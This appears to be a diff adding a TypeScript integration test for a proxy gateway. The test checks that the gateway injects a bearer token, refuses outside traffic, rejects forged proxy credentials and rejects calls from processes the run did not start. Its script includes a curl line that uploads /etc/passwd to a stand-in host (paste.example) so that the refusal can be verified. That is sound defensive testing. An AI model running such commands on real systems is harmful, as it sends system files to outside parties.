@@ -1,0 +1,79 @@
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { existsSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { after, before, test } from "node:test";
+import { approveRun } from "./support/box.ts";
+import { asUser, demoPack, type Gateway, GW, Home, makeFolder, SECRET, start, until, within } from "./support/home.ts";
+import { startProvider, type TestProvider } from "./support/provider.ts";
+
+/** `gw run --proxy`: tools as they are, through the wrapper as their proxy. The real gateway, the real wrapper, no box. */
+let home: Home;
+let gateway: Gateway;
+let provider: TestProvider;
+const skip = asUser;
+
+before(async () => {
+  if ("skip" in skip) return;
+  provider = await startProvider();
+  home = await new Home(makeFolder()).init();
+  await home.addCredential("demo-token", provider.origin);
+  await home.trustPack(
+    "demo",
+    demoPack(provider.origin).replace("  network: private\n", "  network: private\n  token_variables: [DEMO_TOKEN]\n"),
+  );
+  gateway = await home.up();
+});
+after(async () => {
+  await gateway?.end("SIGTERM");
+  await provider?.close();
+});
+
+function startProxied(script: string) {
+  return start([GW, "--home", home.folder, "run", "--proxy", "--", "sh", "-c", script], { env: home.environment() });
+}
+
+test("tools use the proxy as they are, and the card says that nothing contains them", skip, async () => {
+  const fetching = `fetch("${provider.origin}/v1/things/8").then((one) => one.text()).then(console.log)`;
+  const go = join(dirname(home.folder), "go");
+  const run = startProxied(
+    `curl -sS -H "authorization: Bearer $DEMO_TOKEN" ${provider.origin}/v1/things/7; echo; ${process.execPath} -e '${fetching}'
+curl -sS -o /dev/null -w '%{http_code}\\n' https://paste.example/upload -d @/etc/passwd
+curl -sS -o /dev/null -w '%{http_code}\\n' -x "$(echo $http_proxy | sed 's/gw:[0-9a-f]*@/gw:0000@/')" ${provider.origin}/v1/things/7
+curl -sS -o /dev/null -w '%{http_connect}\\n' -x "$(echo $http_proxy | sed 's/gw:[0-9a-f]*@//')" https://paste.example/ 2>/dev/null
+echo $CURL_CA_BUNDLE; echo $http_proxy; while [ ! -e ${go} ]; do sleep 0.1; done`,
+  );
+  const card = await approveRun(home, run);
+  assert.match(card, /NOT CONTAINED/);
+  assert.equal(card.includes("no other network"), false);
+  await until("it waits", () => run.out().includes("http://gw:"));
+  const [seven = "", eight = "", ...lines] = run.out().trim().split("\n");
+  assert.deepEqual(
+    [JSON.parse(seven), JSON.parse(eight)].map(({ url }) => url),
+    ["/v1/things/7", "/v1/things/8"],
+  );
+  assert.deepEqual(lines.slice(0, 3), ["403", "407", "407"]);
+  assert.deepEqual(
+    provider.received.map(({ headers }) => headers["authorization"]),
+    [`Bearer ${SECRET}`, `Bearer ${SECRET}`],
+  );
+  // This test has the token too, and was not started by the run.
+  const told = execFileSync("curl", ["-sS", "-i", "-x", lines[4] ?? "", `${provider.origin}/v1/things/9`], {
+    encoding: "utf8",
+    env: { PATH: process.env["PATH"] },
+  });
+  assert.match(told, /403 Refused by gw - box_request_refused/);
+  assert.match(told, /a process that this run did not start/);
+  writeFileSync(go, "");
+  const { code, err } = await within(run.exited, 120_000, "it ends");
+  assert.equal(code, 0, err);
+  assert.equal(provider.received.length, 2);
+  assert.equal(existsSync(lines[3] ?? ""), false, "its certificate is gone with it");
+  const reasons = (await home.events("call_denied")).map(({ reason }) => String(reason));
+  assert.ok(
+    reasons.some((reason) => reason.includes("did not start")),
+    reasons.join("; "),
+  );
+  const both = await home.run(["run", "--proxy", "--contain", "--", "true"]);
+  assert.equal(both.code, 2, both.err);
+});
